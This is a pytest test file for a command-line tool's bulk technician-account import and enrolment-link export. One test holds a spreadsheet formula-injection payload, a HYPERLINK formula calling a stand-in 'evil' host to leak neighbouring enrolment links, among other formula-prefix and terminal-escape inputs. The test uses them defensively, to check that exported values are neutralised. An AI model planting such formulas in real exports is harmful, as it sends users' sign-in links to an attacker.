# SPDX-License-Identifier: Apache-2.0
"""`countersign technician import`: many accounts at once, all or none."""

import csv
import os
import stat

import pytest

from countersign import PASSWORD, Phone, Refused


def written(tmp_path, text, encoding="utf-8"):
    path = tmp_path / "accounts.csv"
    path.write_bytes(text.encode(encoding))
    return path


def count(server, company):
    return len(server.cli("technician", "list", "--company", company, "--limit", 100000)["technicians"])


def test_accounts_their_invitations_and_a_sign_in(server, name, tmp_path):
    company, _ = name
    server.company(company)
    file = written(tmp_path, f'Email,Name,Company\r\nzoe@{company}.example,"Zoë ""Z"" Ångström, Dr.",{company}\r\n'
                   f"yan@{company}.example,,{company}\r\n", "utf-8-sig")
    invitations = tmp_path / "invitations.csv"
    assert server.cli("technician", "import", file, "--invitations", invitations) == {"added": 2}
    assert stat.S_IMODE(os.stat(invitations).st_mode) == 0o600
    with open(invitations, encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    assert [row["email"] for row in rows] == [f"zoe@{company}.example", f"yan@{company}.example"]
    zoe = server.cli("technician", "show", rows[0]["email"])
    assert (zoe["name"], zoe["password"]) == ('Zoë "Z" Ångström, Dr.', False)
    phone = Phone(server).enrol(rows[0]["link"])
    server.cli("technician", "reset", rows[0]["email"], "--keep", "--password-file", "-", stdin=PASSWORD + "\n")
    assert server.console().sign_in(rows[0]["email"], phone).result == "OK"
    with pytest.raises(Refused) as refused:  # the file is not written over
        server.cli("technician", "import", written(tmp_path, "email\nx@y.example\n"), "--company", company,
                   "--invitations", invitations)
    assert refused.value.code == 2 and "cannot be created" in refused.value.text
    assert count(server, company) == 2


def test_a_name_is_no_formula_beside_the_links(server, name, tmp_path):
    """It could send the links of all others away, once the file is open in a spreadsheet."""
    company, _ = name
    server.company(company)
    shown = {'=HYPERLINK("http://evil/?"&C3,"open")': '\'=HYPERLINK("http://evil/?"&C3,"open")', "+1": "'+1", "-1": "'-1", "@x": "'@x",
             "\uff1d1": "'\uff1d1", "\uff201": "'\uff201", "A;=1": "A;'=1", ";;+1": ";;'+1", "Ann": "Ann", "A;B": "A;B", "a-b": "a-b",
             "\u5c71\u7530": "\u5c71\u7530"}
    names = list(shown)
    rows = "".join(f'u{i}@{company}.example,"{text.replace(chr(34), 2 * chr(34))}"\n' for i, text in enumerate(names))
    invitations = tmp_path / "invitations.csv"
    server.cli("technician", "import", written(tmp_path, "email,name\n" + rows), "--company", company, "--invitations", invitations)
    with open(invitations, encoding="utf-8", newline="") as lines:
        assert [row["name"] for row in csv.DictReader(lines)] == list(shown.values())
    assert server.cli("technician", "show", f"u0@{company}.example")["name"] == names[0]


def test_a_dry_run_and_printed_invitations(server, name, tmp_path):
    company, email = name
    server.company(company)
    file = written(tmp_path, f"email,name\n{email},Ann\n")
    invitations = tmp_path / "invitations.csv"
    words = ("technician", "import", file, "--company", company)
    assert server.cli(*words, "--dry-run", "--invitations", invitations) == {"would_add": 1}
    assert count(server, company) == 0 and not invitations.exists()
    assert "password" not in server.run(*words, "--dry-run").stdout, "nothing was added that could lack one"
    said = server.cli(*words, "--invite", "--life", "1d")
    assert said["added"] == 1 and said["invitations"][0]["email"] == email
    assert "enrolment.created" in [event["event"] for event in
                                   server.cli("audit", "list", "--technician", email)["events"]]
    Phone(server).enrol(said["invitations"][0]["link"])


@pytest.mark.parametrize("text, line", [
    ("email,name\nfirst@{0}.example,A\nnot an address,B\n", ":3: 'not an address' is not an e-mail address"),
    ("email\nfirst@{0}.example\nFIRST@{0}.example \n", ":3: there is an account FIRST@{0}.example already"),
    ("email,name\nfirst@{0}.example,A\n\nsecond@{0}.example\n", ":4: it has not as many fields as the first line"),
    ('email,name\nfirst@{0}.example,"A\nB"\n', ":2: a name is 1 to 200 bytes of printable text"),
    ("email,name\nfirst@{0}.example,\x1b[2J\n", ":2: a name is 1 to 200 bytes of printable text"),
    ('email,name\nfirst@{0}.example,"A\n', ":2: a quote is not closed"),
    ("email,company\nfirst@{0}.example,{0}\n", ":1: either a column company or --company"),
    ("name\nAnn\n", ":1: there is no column email"),
    ("email,role\nfirst@{0}.example,boss\n", ":1: the columns are email, name and company, each once"),
    ("email\n", "there are no accounts"),
    ("", "the first line names the columns"),
])
def test_one_wrong_line_and_nothing_is_added(server, name, tmp_path, text, line):
    company, _ = name
    server.company(company)
    with pytest.raises(Refused) as refused:
        server.cli("technician", "import", written(tmp_path, text.format(company)), "--company", company, "--invitations",
                   tmp_path / "invitations.csv")
    assert refused.value.code == 2 and line.format(company) in refused.value.text
    assert count(server, company) == 0 and not (tmp_path / "invitations.csv").exists()


@pytest.mark.parametrize("data, line", [
    (b"email\n\xff@x.example\n", "is not UTF-8"),
    ("email\na@x.example\n".encode("utf-16"), "is not UTF-8"),
    (b"email\n" + b"x" * (16 * 1024 * 1024), "is larger than 16 MiB"),
], ids=["a byte", "UTF-16", "16 MiB"])
def test_a_file_that_is_not_looked_into(server, name, tmp_path, data, line):
    company, _ = name
    server.company(company)
    path = tmp_path / "accounts.csv"
    path.write_bytes(data)
    with pytest.raises(Refused) as refused:
        server.cli("technician", "import", path, "--company", company)
    assert refused.value.code == 2 and line in refused.value.text


def test_a_company_that_is_not_there_and_ten_thousand_accounts(server, name, tmp_path):
    company, _ = name
    server.company(company)
    rows = "".join(f"u{i}@{company}.example,{company}\n" for i in range(10_000))
    for some, company_of_last, text in [(rows, company, ":10002: there are more than 10000 accounts"),
                                        (rows[:rows.index("u9999@")], "nobody", ":10001: there is no company 'nobody'")]:
        with pytest.raises(Refused) as refused:
            server.cli("technician", "import",
                       written(tmp_path, f"email,company\n{some}last@x.example,{company_of_last}\n"))
        assert text in refused.value.text
    assert count(server, company) == 0
    assert server.cli("technician", "import", written(tmp_path, f"email,company\n{rows}")) == {"added": 10_000}
    assert server.cli("audit", "verify")["ok"] is True
    with pytest.raises(Refused, match="more than 320 bytes") as refused:
        server.cli("technician", "list", "--search", "x" * 321)
    assert refused.value.code == 2
    page = server.cli("technician", "list", "--company", company, "--search", "u99", "--limit", 5)
    assert [t["email"].split("@")[0] for t in page["technicians"]] == ["u9900", "u9901", "u9902", "u9903", "u9904"]
    assert page["next"] == page["technicians"][-1]["email"]


def test_a_link_for_each_technician_without_a_phone(server, name, tmp_path):
    company, email = name
    server.ready(company, email)
    new = [f"{letter}@{company}.example" for letter in "bcdef"]
    for address in new:
        server.technician(company, address)
    server.technician(server.company("other-" + company), "x" + email)
    server.cli("technician", "disable", new[3])
    server.cli("technician", "delete", "--yes", new[4])
    server.cli("device", "disable", server.phone(new[2]).id)  # it has one: an operator enables it again
    file = tmp_path / "links.csv"
    words = ("enrol", "--all", "--company", company, "--invitations", file)
    made = server.cli(*words)
    assert (made["links"], made["invitations"]) == (2, [])
    assert stat.S_IMODE(os.stat(file).st_mode) == 0o600
    with open(file, encoding="utf-8", newline="") as lines:
        rows = list(csv.DictReader(lines))
    assert [row["email"] for row in rows] == new[:2]
    assert Phone(server).enrol(rows[0]["link"])
    with pytest.raises(Refused, match="cannot be created"):
        server.cli(*words)
    assert len(server.cli("technician", "show", new[1])["enrolment_links"]) == 1, "nothing was made without a file to put it into"
    said = server.cli(*words[:-2])
    assert [one["email"] for one in said["invitations"]] == [new[1]]
    lines = list(csv.DictReader(server.run(*words[:-2]).stdout.splitlines()))
    assert [line["email"] for line in lines] == [new[1]] and "/approve/#" in lines[0]["link"]


@pytest.mark.parametrize("words, fault", [
    (["--all"], "--company"), ([], "EMAIL"), (["{email}", "--all", "--company", "{company}"], "in place of an address"),
    (["{email}", "--company", "{company}"], "--all"), (["{email}", "--invitations", "x.csv"], "--all"),
    (["--all", "--cancel", "--company", "{company}"], "--all"), (["--all", "--company", "no-such-company"], "no company"),
])
def test_an_enrolment_of_all_that_is_not_one(server, name, words, fault):
    company, email = name
    server.ready(company, email)
    with pytest.raises(Refused) as refused:
        server.cli("enrol", *(word.format(company=company, email=email) for word in words))
    assert refused.value.code == 2 and fault in refused.value.text
    assert server.cli("technician", "show", email)["enrolment_links"] == []
